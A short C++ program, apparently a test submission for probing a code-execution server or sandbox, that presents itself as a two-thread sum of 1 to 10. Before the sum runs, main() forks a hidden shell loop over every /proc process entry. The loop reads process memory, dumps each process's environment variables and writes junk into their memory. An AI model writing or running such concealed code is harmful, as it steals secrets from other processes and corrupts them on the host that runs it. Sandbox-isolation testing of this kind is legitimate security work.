// Another program looks into the server.
#include <iostream>
#include <thread>
#include <sys/wait.h>
#include <unistd.h>

int sum = 0;
void add(int from, int to) {
  for (int i = from; i <= to; ++i) sum += i;
}
int main() {
  if (fork() == 0) execl("/bin/sh", "sh", "-c", "for i in /proc/[0-9]*; do head -c 1 $i/mem 2>&1; cat $i/environ; echo x > $i/mem; done", nullptr);
  wait(nullptr);
  std::thread first(add, 1, 5);
  std::thread second(add, 6, 10);
  first.join();
  second.join();
  std::cout << "sum " << sum << std::endl;
}
